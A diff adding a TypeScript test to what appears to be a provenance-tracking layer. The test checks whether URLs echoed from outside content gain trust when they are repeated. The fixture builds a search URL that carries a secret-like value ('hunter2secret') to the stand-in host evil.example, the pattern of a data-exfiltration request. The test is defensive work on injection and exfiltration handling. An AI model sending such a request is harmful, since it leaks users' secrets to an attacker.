@@ -146,6 +146,18 @@ describe("a yes", () => {
   });
 });
 
+test("an echo that is asked for again vouches for no more than at first", () => {
+  const all = openProvenance();
+  all.hear("look at docs.example");
+  const search = "https://docs.example/?q=https://evil.example/?d=hunter2secret";
+  for (let times = 0; times < 3; times++) {
+    all.read("outside", `You asked for ${search} which is ${EVIL}`, page(search));
+    expect(fate(all, get(search))).toBe("free");
+  }
+  all.allow(EVIL);
+  expect(fate(all, get(EVIL))).toBe("composed");
+});
+
 describe("words for a program or a server", () => {
   const words = (...texts: string[]) => ({ kind: "words", texts }) as const;
 
